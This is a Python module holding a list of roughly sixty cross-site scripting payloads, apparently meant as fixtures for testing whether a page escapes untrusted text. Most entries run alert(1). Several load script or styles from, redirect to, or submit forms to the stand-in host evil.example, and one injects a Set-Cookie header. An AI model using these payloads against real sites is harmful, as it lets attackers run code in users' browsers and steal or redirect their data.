"""Texts that would become something else than text in a page that is careless in one place: 60 ways to try it."""

__all__ = ["PAYLOADS"]

_RUN = "alert(1)"
PAYLOADS = (
    # elements
    f"<script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", f"<script/x>{_RUN}</script>", "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={_RUN}>", f"<img/src=x/onerror={_RUN}>", f"<IMG SRC=x ONERROR={_RUN}>", f"<<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>", f"<svg/onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>", f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>", f"<body onload={_RUN}>", f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'>", f"<object data=javascript:{_RUN}></object>", f"<embed src=javascript:{_RUN}>",
    f"<video><source onerror={_RUN}></video>", f"<audio src=x onerror={_RUN}>", f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>", f"<textarea autofocus onfocus={_RUN}>", f"<details open ontoggle={_RUN}>x</details>",
    f"<marquee onstart={_RUN}>x</marquee>", f"<a href=javascript:{_RUN}>x</a>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>", "<form action=//evil.example><button>Go</button></form>",
    f"<template><img src=x onerror={_RUN}></template>", f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<dialog open><img src=x onerror={_RUN}></dialog>", f"<x onclick={_RUN} tabindex=1>x</x>", "<h1 style=position:fixed>Big</h1>",
    # out of attributes
    f'" onmouseover="{_RUN}', f"' onmouseover='{_RUN}", f'"><img src=x onerror={_RUN}>', f"'><img src=x onerror={_RUN}>",
    f'" autofocus onfocus={_RUN} x="', f"` onmouseover=`{_RUN}", f'x" formaction="javascript:{_RUN}', '" style="background:url(//evil.example)',
    # out of what swallows text
    f"</textarea><img src=x onerror={_RUN}>", f"</title><img src=x onerror={_RUN}>", f"</style><img src=x onerror={_RUN}>",
    f"</script><img src=x onerror={_RUN}>", f"</select><img src=x onerror={_RUN}>", f"</option></datalist><img src=x onerror={_RUN}>",
    f"--><img src=x onerror={_RUN}>", f"]]><img src=x onerror={_RUN}>", f"</summary></details></td></table><img src=x onerror={_RUN}>",
    # entities, templates, addresses, encodings
    f"&lt;img src=x onerror={_RUN}&gt;", f"&#60;img src=x onerror={_RUN}&#62;", "&amp;lt;b&amp;gt;", "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    f"javascript:{_RUN}", f"data:text/html,<script>{_RUN}</script>", f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"＜script＞{_RUN}＜/script＞", f"\u2028<img src=x onerror={_RUN}>", f"\u202e<b>{_RUN}", f"<scr\u200bipt>{_RUN}</script>", "%3Cscript%3E %0d%0aSet-Cookie:x=1",
)  # fmt: skip
